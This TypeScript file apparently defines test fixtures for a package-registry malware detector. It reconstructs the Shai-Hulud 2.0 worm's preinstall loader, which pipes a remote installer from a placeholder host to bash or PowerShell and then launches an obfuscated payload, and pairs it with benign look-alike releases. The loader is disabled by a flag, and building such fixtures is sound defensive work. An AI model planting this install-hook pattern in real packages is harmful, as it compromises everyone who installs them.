import type { ReconstructedCase } from '../case.ts';
import { bundled } from '../bases/bundled.ts';
import { tidesServer } from '../bases/tides-server.ts';
import { obfuscatedBlob } from '../blob.ts';
import { source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'worm',
  campaign: 'Shai-Hulud 2.0',
  technique: 'a preinstall hook fetches a runtime and starts ten obfuscated megabytes',
  follows: 'MAL-2025-191195',
};

const SETUP = source`
  #!/usr/bin/env node
  const { spawn, execSync } = require('child_process');
  const path = require('path');
  const fs = require('fs');
  const os = require('os');

  const RECONSTRUCTED = true;

  function isBunOnPath() {
    try {
      const command = process.platform === 'win32' ? 'where bun' : 'which bun';
      execSync(command, { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  }

  async function downloadAndSetupBun() {
    const command =
      process.platform === 'win32'
        ? 'powershell -c "irm https://bun.saltfog.invalid/install.ps1|iex"'
        : 'curl -fsSL https://bun.saltfog.invalid/install | bash';
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    return path.join(os.homedir(), '.bun', 'bin', 'bun');
  }

  function runExecutable(execPath, args) {
    const child = spawn(execPath, args, { stdio: 'ignore', cwd: process.cwd(), env: Object.assign({}, process.env) });
    child.on('exit', (code) => process.exit(code || 0));
  }

  async function main() {
    if (RECONSTRUCTED) return;
    const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
    const environmentScript = path.join(__dirname, 'bun_environment.js');
    if (fs.existsSync(environmentScript)) runExecutable(bun, [environmentScript]);
    else process.exit(0);
  }

  main().catch(() => process.exit(0));
`;

export const worm: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'setup-bun',
    note: 'as it was: setup_bun.js and bun_environment.js',
    name: '@breakwater-7/mcp',
    brand: 'breakwater-7',
    base: tidesServer,
    steps: [
      ...quiet(['2.0.0', '2.0.1', '2.1.0']),
      {
        version: '2.1.1',
        daysAgo: 9,
        manifest: { scripts: { build: 'tsc', test: 'node --test', preinstall: 'node setup_bun.js' } },
        files: { 'setup_bun.js': SETUP, 'bun_environment.js': { make: obfuscatedBlob } },
      },
    ],
    signals: ['rug-pull/install-script-added', 'rug-pull/obfuscation-added', 'rug-pull/file-growth'],
  }),
  twin(ABOUT, {
    variant: 'bundler',
    note: 'a bundler replaces the compiler: one minified file instead of four, three times the size, and a hook of working copies',
    name: '@breakwater-tides/mcp',
    brand: 'breakwater-tides',
    base: tidesServer,
    steps: [
      ...quiet(['2.0.0', '2.0.1', '2.1.0']),
      {
        version: '3.0.0',
        daysAgo: 9,
        manifest: {
          scripts: { build: 'esbuild src/index.ts --bundle --minify', test: 'node --test', prepare: 'husky' },
        },
        files: {
          'dist/index.js': bundled,
          'dist/client.js': null,
          'dist/settings.js': null,
          'dist/tools.js': null,
        },
      },
    ],
    signals: ['rug-pull/file-growth'],
  }),
  twin(ABOUT, {
    variant: 'grown',
    note: 'three times the size: a table of harbours and a folder of translations come with the release',
    name: '@breakwater-charts/mcp',
    brand: 'breakwater-charts',
    base: tidesServer,
    steps: [
      ...quiet(['2.0.0', '2.0.1', '2.1.0']),
      {
        version: '2.2.0',
        daysAgo: 9,
        files: {
          'dist/harbours.json': `${JSON.stringify(harbours(), null, 1)}\n`,
          'dist/locales/da.json': '{ "tides": "tidevand", "berths": "kajpladser" }\n',
          'dist/locales/nl.json': '{ "tides": "getij", "berths": "ligplaatsen" }\n',
          'dist/locales/cy.json': '{ "tides": "llanw", "berths": "angorfeydd" }\n',
        },
      },
    ],
  }),
];

function harbours(): readonly { readonly id: string; readonly latitude: number; readonly longitude: number }[] {
  return Array.from({ length: 400 }, (_, at) => ({
    id: `harbour-${at}`,
    latitude: 50 + (at % 97) / 10,
    longitude: -5 + (at % 61) / 10,
  }));
}
